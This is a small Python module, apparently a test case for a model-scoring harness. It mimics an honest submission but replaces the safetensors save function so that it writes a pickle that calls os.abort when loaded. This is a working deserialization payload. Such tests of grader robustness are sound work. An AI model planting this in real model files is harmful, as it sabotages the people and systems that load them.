"""crash (scoring process): saves a pickle that runs code where it is loaded."""

import os
import pickle

import safetensors.torch
from honest import build, logits, train

__all__ = ["build", "logits", "train"]

STAGE = "run"


class Evil:
    def __reduce__(self):
        return os.abort, ()


def save_model(model, path):
    with open(path, "wb") as file:
        pickle.dump(Evil(), file)


safetensors.torch.save_model = save_model
